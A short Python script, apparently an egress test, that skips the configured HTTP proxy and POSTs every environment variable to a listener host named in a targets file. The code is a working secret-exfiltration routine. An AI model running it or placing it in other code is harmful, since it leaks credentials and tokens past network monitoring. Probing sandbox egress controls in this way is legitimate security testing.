# proxy-bypass (Python): urllib honours http_proxy; an opener with an empty
# ProxyHandler does not, and POSTs straight to the listener.
import os, sys, urllib.request
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
data = "".join(f"{k}={v}\n" for k, v in os.environ.items()).encode()
try:
    direct.open(f"http://{T['T_TCP_HOST']}:{T['T_TCP_PORT']}/upload", data=data, timeout=3).read()
except OSError as e:
    print(e)
